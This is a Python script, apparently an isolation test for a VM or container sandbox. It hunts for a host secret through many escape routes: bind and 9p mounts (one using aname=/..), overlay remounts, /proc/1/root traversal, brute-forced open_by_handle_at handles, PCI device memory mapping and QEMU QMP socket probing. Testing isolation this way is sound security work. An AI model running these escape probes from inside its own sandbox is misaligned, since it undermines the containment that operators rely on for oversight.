"""Looks for a secret by every road that leads to it on the host, below each of some root
directories; prints the roads that do.

look.py SECRET NAME=PATH...     on the host, and in a machine (which makes root directories)
"""

import ctypes
import glob
import os
import socket
import subprocess
import sys

secret = sys.argv[1].encode()
places = dict(word.split("=", 1) for word in sys.argv[2:])
found = set()


def roots():
    """The root directory, and others below which more may be seen than there."""
    yield ""
    if not os.path.exists("/dev/vport0p1") and not glob.glob("/dev/vport*"):
        return
    for target, words in {
        "/tmp/bound": ["--bind", "/"],
        "/tmp/rebound": ["--rbind", "/"],
        "/tmp/again": ["-t", "9p", "-o", "trans=virtio,version=9p2000.L", "root"],
        "/tmp/elsewhere": ["-t", "9p", "-o", "trans=virtio,version=9p2000.L,aname=/..", "root"],
        "/tmp/writable": ["-t", "9p", "-o", "trans=virtio,version=9p2000.L", "writable"],
    }.items():
        os.makedirs(target, exist_ok=True)
        subprocess.run(["mount", *words, target], stderr=subprocess.DEVNULL, check=False)
        yield target
    subprocess.run(
        ["mount", "-o", "remount,rw,lowerdir=/", "/"], stderr=subprocess.DEVNULL, check=False
    )
    yield from ["/proc/1/root", "/proc/1/root/../..", "/proc/self/root/lower", "/proc/1/cwd/.."]


def read(path):
    """Whether the secret is behind a path."""
    try:
        with open(path, "rb") as file:
            while piece := file.read(1 << 24):
                if secret in piece:
                    return True
    except OSError:
        pass
    return False


def listens(path):
    """Whether QEMU answers at a path."""
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(5)
    try:
        link.connect(path)
        return b"QMP" in link.recv(100)
    except OSError:
        return False


def devices():
    """Whether the secret is in the memory of a device."""
    for bar in glob.glob("/sys/bus/pci/devices/*/resource2*"):
        try:
            descriptor = os.open(bar, os.O_RDONLY)
            size = os.fstat(descriptor).st_size
            libc = ctypes.CDLL(None, use_errno=True)
            libc.mmap.restype = ctypes.c_void_p
            libc.mmap.argtypes = [
                ctypes.c_void_p,
                ctypes.c_size_t,
                *[ctypes.c_int] * 3,
                ctypes.c_long,
            ]
            memory = libc.mmap(None, size, 1, 1, descriptor, 0)
            if memory != ctypes.c_void_p(-1).value and secret in ctypes.string_at(memory, size):
                found.add("device")
        except OSError:
            pass


def handles(path):
    """Whether a file handle of another file than those below a root directory can be opened."""
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        directory = os.open(path, os.O_RDONLY)
    except OSError:
        return
    for kind in (1, 2, 0x81):
        for inode in range(1, 64):
            handle = (
                (8).to_bytes(4, "little") + kind.to_bytes(4, "little") + inode.to_bytes(8, "little")
            )
            opened = libc.open_by_handle_at(directory, handle, os.O_RDONLY)
            if opened >= 0:
                found.add("handle")
    os.close(directory)


for root in roots():
    for name, path in places.items():
        if name == "qmp":
            answers = listens(root + path)
        else:
            answers = read(root + path) or read(root + "/usr/../../.." + path)
        if answers:
            found.add(name)
    if root:
        handles(root)
if "pool" in places:
    devices()
print(*sorted(found))
